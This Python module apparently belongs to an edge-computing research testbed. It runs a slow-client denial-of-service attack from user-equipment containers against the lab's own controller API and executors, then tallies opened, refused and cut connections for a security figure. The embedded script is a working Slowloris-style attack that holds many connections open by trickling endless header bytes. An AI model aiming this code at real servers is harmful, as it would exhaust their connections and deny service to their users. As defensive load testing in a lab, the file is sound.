"""A slow-client attack from the UE containers, for the load figure of the trust boundaries
(docs/security.md): ``lab.trickle_api`` connections to the controller's API and
``lab.trickle_executor`` to each MEC executor, spread over the UE containers, each sending one
byte of a request every ``INTERVAL_S`` seconds and reconnecting as soon as it is cut or refused.

The attacker is a plain ``python3`` (the UE image's) started with ``docker exec`` in each UE's
container (the attacker's own position: its addresses, its limits), beside the UE client; it
prints a JSON line of counts every few seconds to its log in the UE's output folder, and dies
with the container.
"""
from __future__ import annotations

import json
from pathlib import Path

INTERVAL_S = 1.0

# run inside the container: python3 -c SCRIPT <log> <interval> <ip:port:count> ...
SCRIPT = r'''
import json, socket, sys, threading, time
log, interval, targets = sys.argv[1], float(sys.argv[2]), sys.argv[3:]
counts = {"opened": 0, "refused": 0, "cut": 0, "errors": 0}
lock = threading.Lock()
def bump(k):
    with lock:
        counts[k] += 1
def one(ip, port):
    while True:
        try:
            s = socket.create_connection((ip, port), timeout=5)
        except OSError:
            bump("errors"); time.sleep(interval); continue
        bump("opened")
        try:
            for b in b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000:
                s.settimeout(interval + 5)
                s.sendall(bytes([b]))
                time.sleep(interval)
                s.setblocking(False)
                try:
                    got = s.recv(64)
                except BlockingIOError:
                    got = None
                if got is not None:
                    bump("refused" if got.startswith(b"HTTP/1.0 503") else "cut")
                    break
        except OSError:
            bump("cut")
        finally:
            s.close()
        time.sleep(interval)              # then again, as a patient attacker would
for t in targets:
    ip, port, n = t.split(":")
    for _ in range(int(n)):
        threading.Thread(target=one, args=(ip, int(port)), daemon=True).start()
while True:
    time.sleep(5)
    with lock:
        line = json.dumps({"t": time.time(), **counts})
    with open(log, "a") as f:
        f.write(line + "\n")
'''


def plan(lab) -> dict[str, list[str]]:
    """UE name -> its targets ``ip:port:count``: the API's and every executor's connections
    spread as evenly as the UE containers allow."""
    scn, info = lab.scn, lab.info
    ues = [f"ue{j}" for j in range(1, lab.U + 1)]
    api_ip, api_port = info.api_url.split("//")[1].rsplit(":", 1)
    targets: dict[str, list[str]] = {u: [] for u in ues}

    def spread(ip: str, port: int, total: int) -> None:
        for i, u in enumerate(ues):
            n = total // len(ues) + (1 if i < total % len(ues) else 0)
            if n:
                targets[u].append(f"{ip}:{port}:{n}")
    spread(api_ip, int(api_port), scn.lab.trickle_api)
    for m, s in info.servers.items():
        spread(s.ip, info.executor_port, scn.lab.trickle_executor)
    return {u: t for u, t in targets.items() if t}


def start(lab) -> dict:
    """Start the attack in every UE container that has targets; returns what was started."""
    import docker
    from testbed.lab import OUT_MOUNT
    client = docker.from_env()
    started = {}
    for ue, targets in plan(lab).items():
        c = client.containers.get(f"mn.{ue}")
        c.exec_run(["python3", "-c", SCRIPT, f"{OUT_MOUNT}/trickle.jsonl", str(INTERVAL_S), *targets], detach=True)
        started[ue] = targets
    return started


def summary(run_dir: Path) -> dict:
    """The attackers' last counts, summed over the UE containers."""
    total = {"opened": 0, "refused": 0, "cut": 0, "errors": 0}
    for log in sorted(Path(run_dir).glob("ues/*/trickle.jsonl")):
        lines = [x for x in log.read_text().splitlines() if x.strip()]
        if lines:
            last = json.loads(lines[-1])
            for k in total:
                total[k] += int(last.get(k, 0))
    return total
